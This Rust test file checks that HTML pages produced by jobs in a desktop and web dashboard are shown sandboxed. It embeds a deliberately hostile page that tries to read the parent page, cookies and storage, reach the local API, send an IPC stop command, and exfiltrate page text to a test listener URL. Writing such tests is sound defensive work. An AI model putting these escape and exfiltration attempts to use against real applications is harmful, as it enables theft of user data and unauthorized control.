//! A page that a job wrote, shown in the dashboard and in the window: it looks as it should, and can do nothing else.

use deskgrid_tests::dashboard::Dashboard;
use deskgrid_tests::desktop::Desktop;
use deskgrid_tests::session::Session;
use deskgrid_tests::ui::Ui;
use deskgrid_tests::window::Window;
use deskgrid_tests::{Door, Hook, Manner, eventually, shell, unique};
use serde_json::json;

/// A page with a style, which tries whatever a bad one would, tells the page around it what it got, and leaves.
fn page(elsewhere: &str, server: &str) -> String {
    let tries = [
        "parent.document.title",
        "localStorage.length",
        "if (document.cookie === '') throw 0",
        "open('ELSEWHERE/open').document",
        "await fetch('ELSEWHERE/fetch', {mode: 'no-cors'})",
        "await fetch('SERVER/health')",
        "await fetch('SERVER/api/desk')",
        "await fetch('ipc://localhost/api', {method: 'POST'})",
        "await new Promise((well, ill) => { const s = new WebSocket('ELSEWHERE/socket'.replace('http', 'ws')); s.onopen = well; s.onerror = ill })",
        "await new Promise((well, ill) => { const i = new Image(); i.onload = well; i.onerror = ill; i.src = 'ELSEWHERE/image' })",
        "await new Promise((well, ill) => { const s = document.createElement('script'); s.onload = well; s.onerror = ill; s.src = 'ELSEWHERE/script'; document.head.append(s) })",
    ];
    let tries: String =
        tries.map(|what| format!("try {{ {what}; got.push({}) }} catch {{}}\n", json!(what))).concat();
    let page = format!(
        "<!doctype html><style>h1 {{ color: rgb(1, 2, 3) }}</style><h1>Plot</h1>\
         <link rel=stylesheet href=\"ELSEWHERE/style\"><script type=module>\n\
         const got = [];\n{tries}\
         try {{ navigator.sendBeacon('ELSEWHERE/beacon') }} catch {{}}\n\
         window.webkit?.messageHandlers?.ipc?.postMessage(JSON.stringify({{cmd: 'api', callback: 1, error: 2, \
           payload: {{method: 'POST', path: '/api/desk/stop', body: {{running: 'finish'}}}}}}));\n\
         const style = getComputedStyle(document.querySelector('h1')).color;\n\
         parent.postMessage({{style, got, origin}}, '*');\n\
         location.href = 'ELSEWHERE/leave?' + document.body.innerText;\n\
         </script>"
    );
    page.replace("ELSEWHERE", elsewhere).replace("SERVER", server)
}

async fn is_shown_apart(ui: &mut impl Ui, door: &Door) {
    let hook = Hook::listen(&[Manner::Answers(200)]).await;
    let server = door.get("/api/desk").await["address"].as_str().unwrap().to_owned();
    let key = deskgrid_tests::sha256(unique().as_bytes());
    let script = format!("cp /inputs/plot.html '/outputs/the plot.html'; : {key}");
    let mut definition = shell(&script);
    definition["inputs"] = json!({"plot.html": {"type": "utf8", "value": page(&hook.url(""), &server)}});
    let job = door.post("/q/local", &json!({ "definition": definition })).await;
    let id = job["jobId"].as_str().unwrap().to_owned();
    let ended = format!("/api/jobs/{id}");
    eventually("the job ends", async || door.get(&ended).await["phase"] == "finished").await;

    ui.value(
        "window.heard = []; window.broken = []; \
         addEventListener('message', ({data}) => heard.push(data)); \
         document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective)); 0",
    )
    .await;
    ui.goes_to(&format!("job/{id}")).await;
    ui.clicks("job-tab-files").await;
    ui.sees("preview-html").await;
    ui.reads("Shown without its scripts").await;
    ui.clicks("preview-run").await;
    ui.until("heard.some((data) => data.style)").await;
    let told = ui.value("heard.find((data) => data.style)").await;
    assert_eq!(told, json!({"style": "rgb(1, 2, 3)", "got": [], "origin": "null"}));
    ui.until("broken.includes('frame-src')").await;
    ui.clicks("job-tab-log").await;
    assert!(hook.is_quiet(), "something went out");
    assert_eq!(door.get("/api/desk").await["doors"], "open");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_a_job_wrote_is_shown_in_the_dashboard_and_reaches_nothing() {
    let mut dashboard = Dashboard::open().await;
    let door = Door::of(&dashboard.server.data());
    is_shown_apart(&mut dashboard, &door).await;
}

#[tokio::test]
async fn a_page_that_a_job_wrote_is_shown_in_the_window_and_reaches_nothing() {
    let session = Session::start();
    let app = Desktop::start(&session);
    let door = app.door().await;
    let mut window = Window::open(&session, &app.data()).await;
    is_shown_apart(&mut window, &door).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_same_page_is_a_download_without_life_to_everyone_else() {
    let server = deskgrid_tests::Deskgrid::start().await;
    let id = server.submit(&shell(&format!("echo {} > /outputs/a.html", unique()))).await;
    server.finished(&id).await;
    let path = format!("/j/{id}/outputs/a.html");
    let link = [("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Site", "same-origin")];
    let foreign = [("Sec-Fetch-Dest", "iframe"), ("Sec-Fetch-Site", "cross-site")];
    for asked in [&link[..], &foreign[..], &[]] {
        let request = deskgrid_tests::Raw::new("GET", &path);
        let request = asked.iter().fold(request, |request, (name, word)| request.header(name, *word));
        let answer = request.send(&server).await;
        let says = |name: &str| answer.header(name).unwrap_or_default().to_owned();
        assert!(says("content-disposition").starts_with("attachment"), "{asked:?}");
        assert!(says("content-security-policy").ends_with("sandbox"), "{asked:?}");
    }
    assert_eq!(server.get(&path).await.0, 200);
}
